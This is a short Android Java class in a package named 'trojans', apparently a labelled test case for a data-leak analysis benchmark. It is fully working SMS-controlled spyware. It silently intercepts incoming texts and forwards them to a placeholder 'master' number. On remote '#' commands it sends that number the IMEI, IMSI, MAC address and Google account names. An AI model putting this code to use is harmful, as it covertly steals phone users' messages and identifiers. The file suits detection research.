package trojans;

import android.accounts.AccountManager;
import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.content.SharedPreferences;
import android.net.wifi.WifiManager;
import android.telephony.SmsManager;
import android.telephony.SmsMessage;
import android.telephony.TelephonyManager;
import java.util.Locale;

/** Orders come as words in messages; a switch on the word obeys. */
public class Worded extends BroadcastReceiver {
    public void onReceive(Context context, Intent intent) {
        Object[] parts = (Object[]) intent.getExtras().get("pdus");
        for (Object part : parts) {
            SmsMessage message = SmsMessage.createFromPdu((byte[]) part);
            String body = message.getMessageBody();
            String master = "+10000000000";
            if (!body.startsWith("#")) {
                SmsManager.getDefault().sendTextMessage(master, null, message.getOriginatingAddress() + " " + body, null, null); // leak
                abortBroadcast();
                continue;
            }
            String[] words = body.substring(1).split(" ");
            TelephonyManager phone = (TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE);
            switch (words[0].toLowerCase(Locale.ROOT)) {
                case "on":
                    context.getSharedPreferences("state", 0).edit().putBoolean("on", true).apply();
                    reply(master, "on");
                    break;
                case "off":
                    context.getSharedPreferences("state", 0).edit().putBoolean("on", false).apply();
                    reply(master, "off");
                    break;
                case "state":
                    SharedPreferences state = context.getSharedPreferences("state", 0);
                    reply(master, "state " + state.getBoolean("on", false));
                    break;
                case "imei":
                    SmsManager.getDefault().sendTextMessage(master, null, "imei " + phone.getDeviceId(), null, null); // leak
                    break;
                case "imsi":
                    SmsManager.getDefault().sendTextMessage(master, null, String.format("imsi %s", phone.getSubscriberId()), null, null); // leak
                    break;
                case "mac":
                    WifiManager wifi = (WifiManager) context.getSystemService(Context.WIFI_SERVICE);
                    String mac = wifi.getConnectionInfo().getMacAddress();
                    SmsManager.getDefault().sendTextMessage(master, null, mac, null, null); // leak
                    break;
                case "accounts":
                    StringBuffer names = new StringBuffer();
                    for (android.accounts.Account one : AccountManager.get(context).getAccountsByType("com.google")) {
                        names.append(one.name);
                    }
                    SmsManager.getDefault().sendTextMessage(master, null, names.toString(), null, null); // leak
                    break;
                default:
                    reply(master, "?");
            }
        }
    }

    private static void reply(String to, String text) {
        SmsManager.getDefault().sendTextMessage(to, null, text, null, null); // no leak
    }
}
